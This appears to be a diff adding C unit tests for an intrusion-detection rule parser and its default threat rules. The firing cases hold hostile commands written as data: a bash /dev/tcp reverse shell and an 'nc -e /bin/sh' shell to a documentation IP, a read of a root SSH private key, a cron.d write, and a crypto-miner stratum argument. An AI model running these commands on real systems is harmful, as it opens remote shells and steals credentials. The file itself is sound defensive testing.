@@ -1,0 +1,218 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * Threat rules: the parser's errors, and every rule of rules/default.rules
+ * with an event that fires it and one that does not, through the real
+ * pipeline (inject source -> baseline stage).
+ */
+#include <stdlib.h>
+
+#include "../baseline/inject.h"
+#include "detect/rules.h"
+
+/* ---- parser --------------------------------------------------------------- */
+
+static const struct {
+	const char *text, *err;
+} bad[] = {
+	{ "rule x severity=high\n  kind = exec\n", "has no 'end'" },
+	{ "rule x severity=high\n desc \"d\"\nend\n", "has no condition" },
+	{ "rule x severity=high\n kind = exec\nend\n", "has no desc" },
+	{ "rule X severity=high\n", "needs an id" },
+	{ "rule x severity=urgent\n", "needs severity=" },
+	{ "rule x\n", "needs severity=" },
+	{ "rule x severity=high\n desc \"d\"\n nosuch.field = 1\nend\n", "unknown field 'nosuch.field'" },
+	{ "rule x severity=high\n desc \"d\"\n exec.path ~ a\nend\n", "unknown operator '~'" },
+	{ "rule x severity=high\n desc \"d\"\n net.dport glob 1\nend\n", "needs a string field" },
+	{ "rule x severity=high\n desc \"d\"\n exec.path < 1\nend\n", "needs an integer field" },
+	{ "rule x severity=high\n desc \"d\"\n net.dport = http\nend\n", "is not an integer" },
+	{ "rule x severity=high\n desc \"d\"\n exec.path =\nend\n", "has no value" },
+	{ "rule x severity=high\n desc \"d\"\n exec.path exists 1\nend\n", "takes no value" },
+	{ "rule x severity=high\n desc \"unterminated\nend\n", "unterminated string" },
+	{ "rule x severity=high\n desc \"a\\qb\"\nend\n", "unknown escape" },
+	{ "rule x severity=high\n desc \"d\"\n kind = exe\nend\n", "unknown kind 'exe'" },
+	{ "end\n", "'end' without 'rule'" },
+	{ "kind = exec\n", "outside a rule" },
+	{ "rule x severity=high\n desc \"d\"\n kind = exec\nend\nrule x severity=low\n", "duplicate rule id" },
+	{ "rule x severity=high\n desc \"d\"\n desc \"e\"\n", "once" },
+	{ "rule x severity=high\n desc \"d\"\"e\"\n", "text right after a closing quote" },
+	{ "\"rule\" x\n", "not a string" },
+};
+
+Test(rules_parse, errors_name_the_line_and_reason)
+{
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		struct ruleset *rs = NULL;
+		char err[256] = "";
+		int r = rules_parse(bad[i].text, strlen(bad[i].text), &rs, err, sizeof(err));
+
+		cr_expect_eq(r, -EBADMSG, "case %zu: %d", i, r);
+		cr_expect_null(rs);
+		cr_expect(strncmp(err, "line ", 5) == 0, "case %zu: %s", i, err);
+		cr_expect(strstr(err, bad[i].err), "case %zu: '%s' lacks '%s'", i, err, bad[i].err);
+	}
+}
+
+Test(rules_parse, limits_and_good_file)
+{
+	static const char good[] =
+		"# comment\n\nrule a-1 severity=low   # trailing comment\n"
+		"  desc \"x \\\"quoted\\\" \\\\ y\"\n  kind = exec\n  exec.argc > 2\n"
+		"  exec.path !glob \"/usr/*\"\n  exec.cwd exists\n  exec.parent_exe missing\nend\n";
+	struct ruleset *rs = NULL;
+	char *huge;
+	char err[128];
+
+	cr_assert_eq(rules_parse(good, strlen(good), &rs, err, sizeof(err)), 0, "%s", err);
+	cr_assert_eq(rs->n, 1);
+	cr_assert_str_eq(rs->rules[0].desc, "x \"quoted\" \\ y");
+	cr_assert_eq(rs->rules[0].nconds, 5);
+	cr_assert_eq(rs->rules[0].kind, SENSOR_KIND_EXEC);
+	rules_free(rs);
+	huge = calloc(1, RULES_TEXT_MAX + 2);
+	memset(huge, '#', RULES_TEXT_MAX + 1);
+	cr_assert_eq(rules_parse(huge, RULES_TEXT_MAX + 1, &rs, err, sizeof(err)), -E2BIG);
+	free(huge);
+	/* the embedded default rules parse */
+	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0,
+		     "%s", err);
+	cr_assert_geq(rs->n, 12);
+	rules_free(rs);
+}
+
+/* ---- every default rule: fires, and does not ------------------------------ */
+
+struct fld {
+	const char *name, *value;
+};
+
+struct evspec {
+	enum sensor_kind kind;
+	const char *wl;        /* NULL: a host process */
+	struct fld f[6];
+	const char *argv[6];
+};
+
+struct case_ {
+	const char *rule;
+	struct evspec fire, quiet;
+};
+
+#define EX SENSOR_KIND_EXEC
+#define FI SENSOR_KIND_FILE
+#define NE SENSOR_KIND_NET
+#define SY SENSOR_KIND_SYSCALL
+
+static const struct case_ cases[] = {
+	{ "reverse-shell-devtcp",
+	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.cmdline", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" } } },
+	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.cmdline", "bash -c ls /dev/" } } } },
+	{ "shell-from-network-tool",
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "exec.parent_exe", "/usr/bin/ncat" } } },
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "exec.parent_exe", "/usr/sbin/sshd" } } } },
+	{ "shell-interactive-netcat",
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-e", "/bin/sh", "203.0.113.5", "4444" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-z", "10.0.0.1", "80" } } },
+	{ "write-binary-dir",
+	  { FI, "c", { { "file.op", "write" }, { "file.path", "/usr/bin/ls" } } },
+	  { FI, "c", { { "file.op", "open" }, { "file.path", "/usr/bin/ls" } } } },
+	{ "write-etc",
+	  { FI, "c", { { "file.op", "create" }, { "file.path", "/etc/cron.d/evil" } } },
+	  { FI, "c", { { "file.op", "write" }, { "file.path", "/etcetera/notes" } } } },
+	{ "read-credential-store",
+	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/id_ed25519" } } },
+	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/known_hosts" } } } },
+	{ "ptrace",
+	  { SY, "c", { { "syscall.name", "ptrace" } } },
+	  { SY, "c", { { "syscall.name", "prctl" } } } },
+	{ "module-load",
+	  { SY, NULL, { { "syscall.name", "finit_module" } } },
+	  { SY, NULL, { { "syscall.name", "uname" } } } },
+	{ "container-mount-ns",
+	  { SY, "c", { { "syscall.name", "unshare" } } },
+	  { SY, NULL, { { "syscall.name", "unshare" } } } },
+	{ "miner-port",
+	  { NE, "c", { { "net.op", "connect" }, { "net.proto", "tcp" }, { "net.dst", "198.51.100.7" }, { "net.dport", "3333" } } },
+	  { NE, "c", { { "net.op", "connect" }, { "net.proto", "tcp" }, { "net.dst", "198.51.100.7" }, { "net.dport", "443" } } } },
+	{ "miner-exec",
+	  { EX, "c", { { "exec.path", "/tmp/.x/xmrig" } } },
+	  { EX, "c", { { "exec.path", "/usr/bin/xz" } } } },
+	{ "miner-stratum-arg",
+	  { EX, "c", { { "exec.path", "/tmp/.x/kworker" } }, { "kworker", "-o", "stratum+tcp://pool.example:3333" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "https://example.com" } } },
+};
+
+static void emit_spec(struct tb *t, const struct evspec *s, uint64_t at)
+{
+	sensor_event *ev = tb_new(t, s->kind, s->wl, NULL, at);
+	int argc = 0;
+
+	for (int i = 0; i < 6 && s->f[i].name; i++) {
+		int f = sensor_field_from_name(s->f[i].name);
+
+		cr_assert_gt(f, 0, "%s", s->f[i].name);
+		if (sensor_field_type((enum sensor_field)f) == SENSOR_FIELD_TYPE_INT)
+			cr_assert_eq(sensor_event_set_int(ev, (enum sensor_field)f,
+							  strtoll(s->f[i].value, NULL, 10)), 0);
+		else
+			cr_assert_eq(sensor_event_set_str(ev, (enum sensor_field)f, s->f[i].value), 0);
+	}
+	while (argc < 6 && s->argv[argc])
+		argc++;
+	if (argc)
+		cr_assert_eq(sensor_event_set_argv(ev, s->argv, argc), 0);
+	tb_emit(t, ev);
+}
+
+Test(default_rules, each_fires_and_each_stays_quiet)
+{
+	struct ruleset *rs;
+	char err[128];
+
+	/* every default rule has a case */
+	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0);
+	for (unsigned i = 0; i < rs->n; i++) {
+		size_t k;
+
+		for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++)
+			if (strcmp(cases[k].rule, rs->rules[i].id) == 0)
+				break;
+		cr_expect(k < sizeof(cases) / sizeof(cases[0]), "default rule %s has no test",
+			  rs->rules[i].id);
+	}
+	rules_free(rs);
+
+	for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
+		struct tb t;
+
+		tb_open(&t, NULL);
+		emit_spec(&t, &cases[k].quiet, T0);
+		cr_expect_eq(t.n, 0, "%s fired on its quiet event: %s", cases[k].rule,
+			     t.n ? t.a[0].json : "");
+		emit_spec(&t, &cases[k].fire, T0 + SEC);
+		cr_expect_eq(tb_count(&t, cases[k].rule), 1, "%s did not fire (%d alerts)",
+			     cases[k].rule, t.n);
+		tb_close(&t);
+	}
+}
+
+Test(default_rules, custom_rules_file_replaces_defaults)
+{
+	static const char text[] = "rule only-curl severity=info\n desc \"curl ran\"\n"
+				   " kind = exec\n exec.path glob \"*/curl\"\nend\n";
+	char path[] = "/tmp/rules-test-XXXXXX";
+	int fd = mkstemp(path);
+	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = path };
+	struct tb t;
+
+	cr_assert_geq(fd, 0);
+	cr_assert_eq(write(fd, text, sizeof(text) - 1), (ssize_t)sizeof(text) - 1);
+	close(fd);
+	tb_open(&t, &o);
+	tb_exec(&t, "c", NULL, "/usr/bin/curl", NULL, T0);
+	tb_exec(&t, "c", NULL, "/tmp/xmrig", NULL, T0 + 1);
+	cr_assert_eq(tb_count(&t, "only-curl"), 1);
+	cr_assert_eq(t.n, 1);
+	cr_assert_eq(t.a[0].sev, SENSOR_SEVERITY_INFO);
+	tb_close(&t);
+	unlink(path);
+}
